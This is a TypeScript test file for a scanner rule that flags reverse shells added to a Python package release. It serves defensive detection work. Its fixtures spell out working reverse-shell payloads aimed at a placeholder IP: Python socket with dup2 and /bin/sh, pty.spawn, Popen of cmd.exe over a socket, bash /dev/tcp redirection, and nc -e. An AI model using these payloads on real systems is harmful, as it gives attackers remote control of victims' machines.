import { reverseShell } from '../../src/rules/reverse-shell.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const CONNECT = 'import os, pty, socket, subprocess\ns = socket.socket()\ns.connect(("203.0.113.5", 4444))\n';
const DUP = `${CONNECT}os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n`;
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;

releaseTest(reverseShell, {
  flags: [
    {
      name: 'dup2 and a shell',
      given: { base: wheel(), head: init(DUP) },
      level: 'block',
      says: 'the same file connects out',
    },
    { name: 'pty.spawn', given: { base: wheel(), head: init(`${CONNECT}pty.spawn("/bin/bash")\n`) }, level: 'block' },
    {
      name: 'Popen with the socket as its input',
      given: {
        base: wheel(),
        head: init(
          'import socket, subprocess\ns = socket.create_connection(("203.0.113.5", 4444))\nsubprocess.Popen(["cmd.exe"], stdin=s, stdout=s, stderr=s)\n',
        ),
      },
      level: 'block',
    },
    {
      name: '/dev/tcp',
      given: {
        base: wheel(),
        head: init('import os\nos.system("bash -c \'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\'")\n'),
      },
      level: 'block',
    },
    {
      name: 'nc -e',
      given: { base: wheel(), head: init('import os\nos.popen("nc -e /bin/sh 203.0.113.5 4444")\n') },
      level: 'block',
    },
    { name: 'when called', given: { base: wheel(), head: init(inFunction(DUP)) }, level: 'block' },
    { name: 'a first release, when called', given: { head: init(inFunction(DUP)) }, level: 'warn' },
  ],
  allows: [
    {
      name: 'a shell without a socket',
      given: { base: wheel(), head: init('import pty\ndef shell():\n    pty.spawn("/bin/bash")\n') },
    },
    {
      name: 'a socket and another program',
      given: { base: wheel(), head: init(`${CONNECT}subprocess.run(["git", "status"])\n`) },
    },
    {
      name: 'a shell script beside a socket',
      given: { base: wheel(), head: init(`${CONNECT}subprocess.run(["sh", "build.sh"])\n`) },
    },
    { name: 'what the base did too', given: { base: init(DUP), head: init(`V = 2\n${DUP}`) } },
  ],
});
